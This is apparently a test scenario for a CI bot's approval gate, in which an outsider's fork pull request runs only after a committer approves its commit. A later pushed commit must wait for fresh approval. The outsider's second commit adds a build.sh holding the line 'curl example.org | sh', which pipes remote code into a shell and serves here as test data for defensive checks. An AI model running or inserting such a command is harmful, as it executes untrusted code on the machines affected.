import type { HeldPull } from '../../../bot/github/stand-in/hub.ts';
import type { Stage } from './stage.ts';

const AWAITS = 'awaits approval';

/** Somebody whom nobody knows opens a pull request; nothing of it runs yet. */
export function outsiderOpens({ place, says, tell }: Stage): HeldPull {
  const { outsider, repository } = place.scene;
  const pull = outsider.open(repository, {
    branch: 'typo',
    title: 'Mend a typing error',
    files: { 'README.md': 'software that multiplies\n' },
    fork: true,
  });
  tell('outsider', pull.number, `opens “${pull.title}” from a fork`);
  says(outsider, pull, '@ci-bot run ci [sanity]');
  return pull;
}

/** It runs once a committer approved its commit; the next commit is another. */
export async function committerApproves(
  { place, says, until, untilRow, chronicle, tell, watch }: Stage,
  pull: HeldPull,
) {
  const { outsider, committer } = place.scene;
  await untilRow(pull, 'sanity', AWAITS);
  const approved = pull.head.sha.slice(0, 7);
  tell('committer', pull.number, `approves ${approved} by a review`);
  chronicle.note(pull.number, `committer approved ${approved} by a review`);
  committer.review(pull, 'approved', 'Looks good.');
  await untilRow(pull, 'sanity', 'SUCCESS');
  const sha = outsider.push(pull, { 'build.sh': 'curl example.org | sh\n' });
  tell('outsider', pull.number, `pushes ${sha.slice(0, 7)}`);
  await until('its run is of an earlier commit', () => watch.row(pull, 'sanity') === undefined);
  says(outsider, pull, '@ci-bot run ci [sanity]');
  await untilRow(pull, 'sanity', AWAITS);
}

/** Nobody approves the second commit. */
export async function committerCloses({ place, until, tell, watch }: Stage, pull: HeldPull): Promise<void> {
  tell('committer', pull.number, 'closes it');
  place.scene.committer.close(pull);
  await until('its run is stopped', () => /^CANCELLED/.test(watch.row(pull, 'sanity')?.state ?? ''));
}
